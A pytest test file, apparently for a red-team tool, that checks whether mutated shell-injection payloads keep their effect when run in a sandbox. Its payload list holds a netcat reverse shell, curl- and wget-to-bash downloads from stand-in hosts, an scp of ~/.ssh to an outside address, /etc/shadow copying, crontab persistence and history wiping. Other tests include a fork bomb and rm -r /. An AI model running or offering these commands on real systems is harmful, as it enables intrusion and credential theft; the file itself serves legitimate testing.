"""The shell's oracle runs nothing, sees what changed, and finds the edits to change nothing."""

from __future__ import annotations

import csv
import gzip
import json
import re
import shutil
from collections.abc import Sequence
from pathlib import Path
from random import Random
from typing import Any

import pytest

from overproof.redteam.base import Proof
from overproof.redteam.mutate.shell import MUTATORS
from overproof.redteam.oracle import shell, shell_parse
from overproof.redteam.oracle.namespace import missing, run_scripts
from overproof.redteam.oracle.shell import judge

PAYLOADS = r"""
;uname;
|id|
& ls -l /
;/usr/bin/id
a;id
a|id
a);id
a)|/usr/bin/id;
FAIL||id
|| perl -e 'print "X"x1024'
&& nc -lvvp 4444 -e /bin/sh &
; ls -laR /etc
$(id)
`id`
$(`cat /etc/passwd`)
x$(curl http://192.0.2.7/a)
'; whoami #
" | whoami
'|id|'
"|/usr/bin/id|"
|| system('sleep 5');
;system('cat /etc/passwd')
exec("ls -l /tmp");
() { :;}; /bin/bash -c "curl http://192.0.2.7/shock?x=1"
cat /etc/passwd
/usr/bin/id
wget http://192.0.2.7/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh
curl -s http://192.0.2.7/x | bash
find / -perm -4000 -type f 2>/dev/null > /tmp/found
echo "0 * * * * root /tmp/x" >> /etc/crontab
if [ "$(uname)" = 'FreeBSD' ]; then service -e; else systemctl list-units; fi
for i in 1 2 3; do ping -c 1 192.0.2.$i; done
export HISTFILE="/dev/null"; rm ~/.bash_history
sudo cp /etc/shadow /tmp/s && tar czf /tmp/s.tgz /tmp/s || echo failed
while read line; do echo $line >> /tmp/copy; done < /etc/passwd
x=$(echo aWQ= | base64 -d); $x
& dir C:\Users
&& type %SYSTEMROOT%\repair\SAM
| net user hacker Password1 /ADD
&& ipconfig /all &
reg add "HKLM\System\A b" /v x /t REG_DWORD /d 0 /f
mira@kolva:~$ curl -s http://192.0.2.7/b | sh
comm -1 -2 <(sort /tmp/a) <(sort /tmp/b)
find . -name "*a b*" -exec cp -r {} /tmp/x/y \;
scp -r ~/.ssh user@198.51.100.4:/tmp/
""".strip().splitlines()


@pytest.fixture(scope="module", autouse=True)
def a_namespace(request: pytest.FixtureRequest) -> None:
    """Skip what needs a namespace where the machine allows none."""
    if why := missing():
        pytest.skip(why)


def share(pairs: Sequence[tuple[str, str]], proofs: Sequence[Proof], meaning: str = "proved") -> float:
    """Return which part of the pairs has a meaning; none may be changed."""
    assert [pair for pair, proof in zip(pairs, proofs, strict=True) if proof.meaning == "changed"] == []
    return sum(proof.meaning == meaning for proof in proofs) / len(proofs)


def test_chains_of_edits_are_proved(chains: Any) -> None:
    pairs = [pair for seed in range(2) for pair in chains(PAYLOADS, MUTATORS, 6, Random(seed))]
    assert len(pairs) == 2 * len(PAYLOADS)
    assert share(pairs, judge(pairs)) >= 0.97


def test_each_edit_is_proved_alone() -> None:
    pairs: list[tuple[str, str]] = []
    for name, edit in sorted(MUTATORS.items()):
        made = [(text, edited) for text in PAYLOADS if (edited := edit(text, Random(7))) is not None and edited != text]
        assert made, name
        pairs += made[:5]
    assert share(pairs, judge(pairs)) == 1


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        (";id", ";ix"),
        (";id", ""),
        (";id", "id"),
        (";id", "';id'"),
        ("`id`", "'`id`'"),
        ("a|id", "a'|'id"),
        ("cat /etc/passwd", "cat /etc/passw'd '"),
        ("cat /etc/passwd", "# cat /etc/passwd"),
        ("cat /etc/passwd", "cat /etc/../passwd"),
        ("echo a//b | grep //", "echo a//b | grep /"),
        ("curl http://192.0.2.7//x", "curl http://192.0.2.7/x"),
        ("cat x | base64 -d", "cat x; base64 -d"),
        ("cat x | base64 -d", "base64 -d | cat x"),
        ("ls; id", "id; ls"),
        ("ls > f", "ls > g"),
        ("ls > f", "ls >> f; id > f"),
        ("ls 2>/dev/null", "ls"),
        ("echo hi > f", "echo ho > f"),
        ("id && ls", "id || ls"),
        ("id || ls", "id; ls"),
        ("if id; then ls; fi", "if id; then ls; else cat x; fi"),
        ("export A=1; id", "export A=2; id"),
        ("PATH=/tmp; id", "id"),
        ("ls <<< hi", "ls <<< ho"),
        ("system('id');", "system('ix');"),
        ("& dir C:\\x", "& d^or C:\\x"),
        ("& dir C:\\x", "& rem dir C:\\x"),
        ("& dir C:\\x || net user", "& dir C:\\x || net view & type C:\\x"),
        ("& dir C:\\x", "& dir C:\\x & net user"),
    ],
)
def test_another_effect_is_seen(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "changed"


def test_a_branch_of_cmd_is_not_taken_for_another() -> None:
    pair = ("dir C:\\x || net user", "dir C:\\x || set a=b & net user")
    assert judge([pair])[0].meaning == "unproved"


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("asdf3334", "runs no command"),
        ("it's a nice day", "runs no command"),
        ("'garden'", "runs no command"),
        ("$(`type C:\\boot.ini`)", "Windows"),
        ("{{7*7}}", "no shell's text"),
        ("phpinfo();", "runs no command"),
        (";id\0", "NUL"),
        ("case $x in a) rm x;; esac; ls -l", "not reached"),
        ("exit 1; rm -r /", "not reached"),
        ("echo $BASHPID$EPOCHREALTIME", "twice"),
        ("while :; do :; done; ls -l", "not end in time"),
    ],
)
def test_what_proves_nothing_is_unproved(text: str, why: str) -> None:
    edited = text.replace("\0", "") if text.startswith("echo $B") is False else text + "$BASHPID"
    proof = judge([(text, edited)])[0]
    assert proof.meaning == "unproved"
    assert why in proof.how


def test_the_call_around_a_command_must_stay() -> None:
    assert judge([("system('id');", "exec('id');")])[0].meaning == "unproved"


def test_nothing_is_reached_from_inside(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("here")
    scripts = [
        f"read line < {secret}; echo $line; echo over > {secret}",
        "echo x > /dev/tcp/127.0.0.1/80",
        "echo /proc/*; echo /home/*/*; echo /.shell/*",
        "echo x > /.shell/bash; echo x > /.shell/prelude0; kill -9 1; kill -9 -1; echo alive",
        "echo a > /tmp/left",
        "echo /tmp/*",
    ]
    ran = run_scripts(scripts)
    assert all(one is not None and one.ended for one in ran)
    said = [one for one in ran if one is not None]
    assert secret.read_text() == "here" and "here" not in said[0].out
    assert "unreachable" in said[1].err
    assert "/proc/*" in said[2].out
    assert said[3].files == () and "alive" in said[3].out
    assert said[4].files == (("tmp/left", "a\n"),)
    assert said[5].out == "/tmp/*\n"


def test_what_does_not_end_is_ended() -> None:
    endless = run_scripts(["while :; do :; done", "bomb() { bomb | bomb & }; bomb", "echo after"])
    assert [one is not None and one.ended for one in endless] == [False, False, True]


def test_answers_do_not_depend_on_the_batch() -> None:
    pairs = [(";id", ";i''d"), (";id", ";ix"), ("a|id", "a|i$@d")]
    assert judge(pairs) == [judge([pair])[0] for pair in pairs]
    assert judge([]) == []


def test_without_a_namespace_words_are_compared(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell, "missing", lambda: "no namespace")
    pairs = [
        ("cat /etc/passwd", "c''at \"/etc/\"passwd"),
        ("cat x", "cat y"),
        ("cat $x", "cat $x"),
        (";id", ";i\\d"),
        ("asdf3", "asd''f3"),
    ]
    proofs = judge(pairs)
    assert [proof.meaning for proof in proofs] == ["proved", "unproved", "unproved", "proved", "unproved"]
    monkeypatch.setattr(shell_parse, "parser", lambda: None)
    assert "overproof[attack]" in judge(pairs[:1])[0].how


def test_without_bash_it_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "which", lambda name: None)
    missing.cache_clear()
    try:
        assert missing() == "bash is not installed"
    finally:
        missing.cache_clear()


def test_real_injections_keep_their_effect(chains: Any, shared_data: Path) -> None:
    with gzip.open(shared_data / "http" / "train.csv.gz", "rt", encoding="utf-8", newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file) if row["family"] == "cmdi"]
    pairs = chains(Random(0).sample(texts, 150), MUTATORS, 4, Random(11))
    assert share(pairs, judge(pairs)) >= 0.85


def test_real_command_lines_keep_their_effect(chains: Any, shared_data: Path) -> None:
    with gzip.open(shared_data / "shell" / "atomic_red_team.jsonl.gz", "rt", encoding="utf-8") as file:
        rows = [row for row in map(json.loads, file) if row["executor"] in ("sh", "bash")]
    texts = [re.sub(r"#\{(\w+)\}", r"\1", row["command"]) for row in rows]
    pairs = chains(Random(0).sample(texts, 60), MUTATORS, 4, Random(12))
    assert share(pairs, judge(pairs)) >= 0.85
